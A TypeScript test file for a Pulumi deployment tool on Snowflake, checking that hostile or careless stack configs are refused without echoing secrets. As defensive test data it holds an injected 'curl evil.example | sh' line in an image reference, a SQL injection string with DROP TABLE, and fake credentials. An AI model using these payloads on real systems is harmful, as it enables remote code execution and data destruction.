/**
 * Every input a user can write is checked before anything renders: stack files written as a new, a
 * careless or a hostile user would, through `npm run plan` (the same validation `pulumi up` runs).
 * Refused inputs exit 2 with the config path named and no secret value echoed.
 */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { contextFromStack } from "../../policies/context";
import { cli, smallConfig, tempDir, writeStack, type CliRun } from "../plan/helpers";

const PEM = ["-----BEGIN PRIVATE KEY-----", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7", "-----END PRIVATE KEY-----"].join("\n");

async function plan(config: Record<string, unknown>, stack = "small", ...args: string[]): Promise<CliRun> {
  return cli("--config", writeStack(config, stack), ...args);
}

/** Exit 2, the config path named in the output, and none of `secrets` in it. */
async function expectRefused(config: Record<string, unknown>, path: string, message: RegExp, secrets: string[] = []): Promise<string> {
  const run = await plan(config);
  // Refusals go to stderr (the CLI's notes); stdout stays empty so a redirected plan is never an error text.
  expect([run.code, run.out, run.notes]).toEqual([2, "", expect.stringContaining(`${path}:`)]);
  const line = run.notes.split("\n").find((l) => l.includes(`${path}:`))!;
  expect(line).toMatch(message);
  for (const s of secrets) expect(run.out + run.notes).not.toContain(s);
  // A message, never a stack trace.
  expect(run.notes).not.toMatch(/\n\s+at .*\(.*:\d+:\d+\)/);
  return run.notes;
}

/** The small stack with a generic service (seed 003's filter UI) on its CPU pool. */
function withService(service: Record<string, unknown> = {}): Record<string, any> {
  const c = smallConfig();
  c["llmstack:snowflake"].services = {
    FILTER: { pool: "CPU", containers: [{ name: "ui", image: "filter-ui:1.0" }], endpoints: [{ name: "ui", port: 8080 }], ...service },
  };
  return c;
}

describe("credentials anywhere in the stack file", () => {
  test("a plaintext snowflake:password or PEM snowflake:privateKey is refused, naming the key, never the value", async () => {
    const c = smallConfig();
    c["snowflake:password"] = "hunter2-plaintext";
    const out = await expectRefused(c, "snowflake:password", /credential .* plaintext/, ["hunter2-plaintext"]);
    expect(out).toContain("pulumi config set --secret snowflake:password");

    const k = smallConfig();
    delete k["snowflake:password"];
    k["snowflake:privateKey"] = PEM;
    await expectRefused(k, "snowflake:privateKey", /plaintext/, ["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7"]);
  });

  test("a credential pasted under another provider's key is refused too", async () => {
    const c = smallConfig();
    c["aws:note"] = PEM;
    await expectRefused(c, "aws:note", /PEM private key in plaintext/, ["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7"]);
  });

  test("credentials in source.mirrorEndpoint are refused and never shown", async () => {
    const c = smallConfig();
    c["llmstack:models"][0].source.mirrorEndpoint = "https://mirror-user:s3cret-pass@huggingface.co";
    await expectRefused(c, "llmstack:models[0].source.mirrorEndpoint", /credentials|password/, ["s3cret-pass"]);
  });
});

describe("images: checked as references, where the config names them", () => {
  test.each([
    ["a line break that would add Dockerfile instructions and SQL", "vllm", "vllm/vllm-openai:v0.11.0\nRUN curl -s https://evil.example | sh", /not an image reference/],
    ["the moving tag latest", "vllmCpu", "public.ecr.aws/q9t5s3a7/vllm-cpu-release-repo:latest", /latest/],
    ["latest with trailing whitespace", "vllm", "vllm/vllm-openai:latest ", /not an image reference/],
    ["a registry port but no tag", "vllm", "registry.example.com:5000/vllm/vllm-openai", /no tag/],
  ])("refuses %s", async (_name, key, image, message) => {
    const c = smallConfig();
    c["llmstack:images"][key] = image;
    await expectRefused(c, `llmstack:images.${key}`, message);
  });

  test("a tag pinned by digest behind a registry port is accepted; the mirror pushes name:tag", async () => {
    const digest = "sha256:" + "ab".repeat(32);
    const c = smallConfig();
    c["llmstack:images"].vllm = `registry.example.com:5000/vllm/vllm-openai:v0.11.0@${digest}`;
    const dir = tempDir();
    const run = await plan(c, "small", "--out", dir);
    expect(run.code).toBe(0);
    expect(readFileSync(join(dir, "specs", "QWEN_SERVICE.yaml"), "utf8")).toMatch(/image: \/llm_small\/models\/images\/vllm-openai:v0\.11\.0@sha256:[0-9a-f]{64}\n/); // the digest the push reports
    const { mirroredName } = await import("../../validators/image");
    expect(mirroredName(`registry.example.com:5000/vllm/vllm-openai:v0.11.0@${digest}`)).toBe("vllm-openai:v0.11.0");
    // The mirror (components/snowflake/images.ts) applies the same rule, whatever reaches it.
    expect(() => mirroredName("vllm/vllm-openai:v1\nRUN id")).toThrow(/not an image reference/);
  });

  test("a gateway tag of latest is refused at llmstack:images.gatewayTag", async () => {
    const c = smallConfig();
    c["llmstack:images"].gatewayTag = "latest";
    await expectRefused(c, "llmstack:images.gatewayTag", /latest/);
  });
});

describe("the environment is decided once", () => {
  test("a stack named prod without llmstack:environment is prod for the program, the policy pack and the plan", async () => {
    const c = smallConfig();
    delete c["llmstack:environment"];
    const run = await plan(c, "prod", "--format", "json");
    const doc = JSON.parse(run.out);
    expect([doc.environment, doc.policySummary.environment]).toEqual(["prod", "prod"]);
    // The program protects the database in prod.
    const database = doc.resources.find((r: { type: string }) => r.type === "snowflake:index/database:Database");
    expect(database.protect).toBe(true);
    // The pack, given what the CLI gives it, decides the same.
    const config = Object.fromEntries(Object.entries(c).map(([k, v]) => [k, typeof v === "string" ? v : JSON.stringify(v)]));
    expect(contextFromStack({ config, stackName: "prod" }).environment).toBe("prod");
  });

  test("llmstack:environment, when set, wins over the stack name everywhere", async () => {
    const c = smallConfig();
    c["llmstack:environment"] = "staging";
    const doc = JSON.parse((await plan(c, "prod", "--format", "json")).out);
    expect([doc.environment, doc.policySummary.environment]).toEqual(["staging", "staging"]);
    const config = Object.fromEntries(Object.entries(c).map(([k, v]) => [k, typeof v === "string" ? v : JSON.stringify(v)]));
    expect(contextFromStack({ config, stackName: "prod" }).environment).toBe("staging");
  });
});

describe("stack files that deploy nothing", () => {
  test.each([
    ["a list", "- llmstack:models: []\n", /Pulumi\.small\.yaml: is not a Pulumi stack file.*got a list/],
    ["a scalar", "just some text\n", /is not a Pulumi stack file.*got a string/],
    ["config: as a list", "config:\n  - llmstack:environment: dev\n", /config: must be a mapping/],
    ["keys without a namespace", "config:\n  models: []\n", /config\.models: is not a Pulumi config key/],
    ["no llmstack key at all", "config:\n  snowflake:accountName: X\n", /llmstack:\*: configures nothing to deploy/],
  ])("refuses %s", async (_name, text, message) => {
    const file = join(tempDir(), "Pulumi.small.yaml");
    writeFileSync(file, text);
    const run = await cli("--config", file);
    expect(run.code).toBe(2);
    expect(run.notes).toMatch(message);
  });

  test("refuses a model placed nowhere", async () => {
    const c = smallConfig();
    delete c["llmstack:models"][1].snowflake;
    await expectRefused(c, "llmstack:models[1]", /placed nowhere/);
  });
});

describe("keys that differ only in case", () => {
  test("two compute pools GPU and gpu are refused, naming the second", async () => {
    const c = smallConfig();
    c["llmstack:snowflake"].computePools.gpu = { instanceFamily: "GPU_NV_M" };
    await expectRefused(c, "llmstack:snowflake.computePools.gpu", /names the same object as "GPU"/);
  });

  test("two egress lists HUGGINGFACE and huggingface are refused", async () => {
    const c = smallConfig();
    c["llmstack:snowflake"].egress.huggingface = ["evil.example.com:443"];
    await expectRefused(c, "llmstack:snowflake.egress.huggingface", /same object/);
  });

  test("a namespace differing only in case is not silently ignored", async () => {
    const c = smallConfig();
    c["LLMSTACK:environment"] = "prod";
    await expectRefused(c, "LLMSTACK:environment", /case-sensitive/);
  });
});

describe("service functions", () => {
  test("a model function's maxBatchRows is bounded by the gateway's row queue", async () => {
    const c = smallConfig();
    c["llmstack:models"][0].snowflake.function.maxBatchRows = 513;
    await expectRefused(c, "llmstack:models[0].snowflake.function.maxBatchRows", /row queue \(512 rows\).*413/);
    c["llmstack:models"][0].snowflake.function.maxBatchRows = 512;
    expect((await plan(c)).code).toBe(0);
  });

  test.each([
    ["an argument type", { args: [{ name: "TEXT", type: "VARCHAR) RETURNS VARCHAR AS '/x'; DROP TABLE T; --" }] }, "args[0].type", /not a SQL data type/],
    ["a return type", { returns: "VECTOR OF FLOATS" }, "returns", /not a SQL data type/],
    ["an argument name the builder emits bare", { args: [{ name: "TEXT$", type: "VARCHAR" }] }, "args[0].name", /not a valid argument name/],
    ["a path with a NUL", { path: "/classify\u0000" }, "path", /NUL/],
  ])("refuses %s the SQL builder would refuse", async (_name, fn, field, message) => {
    const c = withService({ functions: [{ name: "CLASSIFY", endpoint: "ui", path: "/classify", ...fn }] });
    await expectRefused(c, `llmstack:snowflake.services.FILTER.functions[0].${field}`, message);
  });

  test("names that grow past Snowflake's 255 characters once prefixed are refused at their config key", async () => {
    const long = "E".repeat(250);
    const c = smallConfig();
    c["llmstack:snowflake"].egress[long] = ["huggingface.co:443"];
    await expectRefused(c, `llmstack:snowflake.egress.${long}`, /identifier longer than 255/);
    const p = smallConfig();
    p["llmstack:snowflake"].namePrefix = "P".repeat(254);
    await expectRefused(p, "llmstack:snowflake.computePools.GPU", /not an unquoted upper-case identifier/);
  });
});

describe("resources are checked against the node", () => {
  test("a generic service asking more GPUs than its pool's node has", async () => {
    const c = withService({ pool: "GPU", containers: [{ name: "ui", image: "filter-ui:1.0", resources: { gpus: 2 } }] });
    await expectRefused(c, "llmstack:snowflake.services.FILTER.containers[0].resources.gpus", /2 GPU\(s\).*GPU_NV_S node \(6 vCPU, 27 GiB, 1 GPU\)/);
  });

  test("a generic service asking a GPU of a CPU pool", async () => {
    const c = withService({ containers: [{ name: "ui", image: "filter-ui:1.0", resources: { gpus: 1 } }] });
    await expectRefused(c, "llmstack:snowflake.services.FILTER.containers[0].resources.gpus", /CPU_X64_XS node \(1 vCPU, 6 GiB, 0 GPUs\)/);
  });

  test.each([
    ["memory", { requests: { memory: "64Gi" } }, "requests.memory", /64 GiB of memory, more than a GPU_NV_S node/],
    ["CPU", { limits: { cpu: 16 } }, "limits.cpu", /16 vCPU of cpu, more than a GPU_NV_S node/],
  ])("a model's %s override above the node", async (_name, resources, field, message) => {
    const c = smallConfig();
    c["llmstack:models"][0].snowflake.resources = resources;
    await expectRefused(c, `llmstack:models[0].snowflake.resources.${field}`, message);
  });

  test("memory in a unit SPCS specs do not take is refused at the config field", async () => {
    const c = smallConfig();
    c["llmstack:models"][0].snowflake.resources = { requests: { memory: "8.5Gi" } };
    await expectRefused(c, "llmstack:models[0].snowflake.resources.requests.memory", /whole number with a unit M, Mi, G or Gi/);
  });
});

describe("errors show no internal strings", () => {
  test("plain settings stored encrypted are refused without showing the plan's placeholder", async () => {
    const c = smallConfig();
    c["llmstack:cost"] = { secure: "v1:ZmFrZQ==:ZmFrZS1jb3N0" };
    const out = await expectRefused(c, "llmstack:cost", /stored encrypted/, ["offline-plan-placeholder", "ZmFrZS1jb3N0"]);
    expect(out).toContain("without --secret");
  });
});

describe("grants to PUBLIC", () => {
  test("with allowPublicGrants, a function's USAGE may go to PUBLIC; a role granted to PUBLIC is still blocked", async () => {
    const c = smallConfig();
    c["llmstack:snowflake"].allowPublicGrants = true;
    c["llmstack:models"][0].snowflake.function.grantUsageTo = ["PUBLIC"];
    expect((await plan(c)).code).toBe(0);
    c["llmstack:snowflake"].role.grantToRoles = ["PUBLIC"];
    const run = await plan(c, "small", "--format", "json");
    expect(run.code).toBe(1);
    expect(JSON.parse(run.out).policies.map((p: { policy: string }) => p.policy)).toContain("snowflake-no-public-grants");
  });
});
